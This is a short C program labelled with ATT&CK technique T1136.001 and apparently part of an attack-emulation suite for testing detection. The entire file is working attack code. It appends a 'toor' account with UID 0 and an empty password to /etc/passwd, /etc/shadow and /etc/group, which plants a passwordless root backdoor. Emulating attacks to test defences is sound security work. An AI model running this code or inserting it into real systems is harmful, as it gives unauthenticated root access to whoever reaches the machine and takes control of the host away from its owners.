/* T1136.001: adds an account that is root, without a password. */
#include "lib.h"

static bool append(const char *path, const char *line)
{
    int32_t file = CALL(OPENAT, AT_FDCWD, path, O_WRONLY | O_APPEND);
    bool added = file >= 0 && write_all(file, line, length_of(line));
    CALL(CLOSE, file);
    return added;
}

int main(void)
{
    char text[512];
    read_file("/etc/passwd", text, sizeof text);
    read_file("/etc/group", text, sizeof text);
    bool added = append("/etc/passwd", "toor:x:0:0::/root:/bin/sh\n");
    added |= append("/etc/shadow", "toor::20000:0:99999:7:::\n");
    added |= append("/etc/group", "toor:x:0:toor\n");
    print(added ? "done\n" : "no\n");
    return !added;
}
